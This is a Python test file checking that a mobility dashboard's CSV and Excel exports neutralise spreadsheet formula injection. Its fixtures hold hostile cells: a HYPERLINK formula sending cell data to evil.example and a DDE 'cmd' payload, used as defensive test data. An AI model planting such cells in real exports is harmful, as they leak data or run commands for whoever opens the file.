"""Exports are safe to open: a text cell that a spreadsheet would run as a formula is
neutralised in every CSV the product writes (downloads, reject reports, `mobility rejects
--csv`, `mobility sql --csv`); workbooks keep strings as strings; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import polars as pl
import pytest
from click.testing import CliRunner

from dashboard.app import create_app
from warehouse import exports
from warehouse.cli import cli

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
POISONED = (
    "Institution;Country;Programme\n"
    f"{HYPERLINK};Spain;Erasmus+\n"
    "@SUM(1+1);Italy;Erasmus+\n"
    "+cmd|' /C calc'!A0;Germany;Erasmus+\n"
    "-2+3;Belgium;Erasmus+\n"
    "\tTabbed University;Finland;Erasmus+\n"
    "=1+1;Atlantis;Erasmus+\n"
)


@pytest.fixture(scope="module")
def app():
    return create_app()


def run(*args) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def poisoned(demo_warehouse, tmp_path):
    """The demo with a partner list whose names are formulas, one of them rejected."""
    path = tmp_path / "partners.csv"
    path.write_text(POISONED, "utf-8")
    code, out, _ = run("import", "agreements", path, "--school", "IMT Mines Albi")
    assert code == 0, out
    return demo_warehouse


def assert_safe(text: str, where: str) -> list[list[str]]:
    """Every cell starting like a formula is a number; return the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # a number, such as -3, else a formula left live
    assert rows, where
    return rows


def test_every_csv_download_is_neutralised(app, poisoned):
    from dashboard.downloads import DOWNLOADS

    client = app.server.test_client()
    texts = {}
    for name in DOWNLOADS:
        response = client.get(f"/download/{name}.csv?schools=imt-mines-albi")
        assert response.status_code == 200, name
        texts[name] = response.data.decode("utf-8")
        assert_safe(texts[name], name)
    names = {row[0] for row in csv.reader(io.StringIO(texts["agreement_list"]))} | {
        cell for row in csv.reader(io.StringIO(texts["agreement_list"])) for cell in row
    }
    assert "'" + HYPERLINK in names and "'@SUM(1+1)" in names and "'-2+3" in names
    rejects = list(csv.reader(io.StringIO(texts["rejected_rows_list"])))
    assert any(cell.startswith("'=1+1") for row in rejects for cell in row)
    # negative numbers stay numbers: the balance of a partner that sends more than it hosts
    balance = pl.read_csv(io.BytesIO(texts["partner_balance"].encode()))
    numeric = [name for name, dtype in balance.schema.items() if dtype.is_numeric()]
    assert numeric and any((balance[name] < 0).any() for name in numeric)


def test_every_excel_download_keeps_strings_as_strings(app, poisoned):
    from dashboard.downloads import DOWNLOADS

    client = app.server.test_client()
    found = []
    for name in DOWNLOADS:
        response = client.get(f"/download/{name}.xlsx?schools=imt-mines-albi")
        assert response.status_code == 200, name
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert not any(b"<f>" in archive.read(sheet) for sheet in sheets), name
        workbook = openpyxl.load_workbook(io.BytesIO(response.data))
        for row in workbook.active.iter_rows():
            found += [cell.value for cell in row if cell.data_type == "s"]
    assert HYPERLINK in found and "@SUM(1+1)" in found


def test_reject_reports_and_rejects_csv_are_neutralised(poisoned, tmp_path):
    reports = list((poisoned.parent / f"{poisoned.stem}-rejects").glob("*.csv"))
    assert len(reports) == 1
    rows = assert_safe(reports[0].read_text("utf-8"), "reject report")
    assert rows[1][3].startswith("'=1+1")
    code, _out, _ = run("rejects", "--csv", tmp_path / "rejects.csv")
    assert code == 0
    rows = assert_safe((tmp_path / "rejects.csv").read_text("utf-8"), "mobility rejects --csv")
    assert any(row[4].startswith("'=1+1") for row in rows[1:])


def test_sql_csv_neutralises_text_and_keeps_numbers(poisoned):
    code, out, _ = run(
        "sql", "--csv", "select '=1+1' as a, -1.5 as b, '-2' as c, 3 as d, '@x' as e, 'ok' as f"
    )
    assert code == 0
    assert out.splitlines() == ["a,b,c,d,e,f", "'=1+1,-1.5,'-2,3,'@x,ok"]


def test_every_workbook_keeps_strings_as_strings(tmp_path):
    """The Erasmus+ workbook and the Excel downloads are written by exports.write_workbook."""
    link = "https://example.org"
    frame = pl.DataFrame(
        {"partner": [HYPERLINK, "-5", "Aalto", link], "grant": [-5.0, 10.0, None, 1.5]}
    )
    path = tmp_path / "report.xlsx"
    exports.write_workbook(path, [("mobilities", frame)], {"title": "title"})
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [
        (HYPERLINK, "s"), ("-5", "s"), ("Aalto", "s"), (link, "s"),
    ]  # fmt: skip
    assert sheet["A"][4].hyperlink is None  # a web address stays text, not a link
    assert [c.value for c in sheet["B"][1:5]] == [-5, 10, None, 1.5]
    assert workbook.properties.title == "title"
